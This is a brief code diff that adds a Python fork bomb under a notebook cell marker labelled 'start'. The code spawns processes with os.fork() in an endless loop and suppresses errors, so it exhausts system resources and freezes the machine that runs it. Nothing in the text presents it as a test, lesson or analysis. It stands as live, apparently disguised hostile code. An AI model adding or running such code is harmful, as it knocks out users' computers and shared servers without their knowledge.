@@ -1,0 +1,8 @@
+# %% start
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
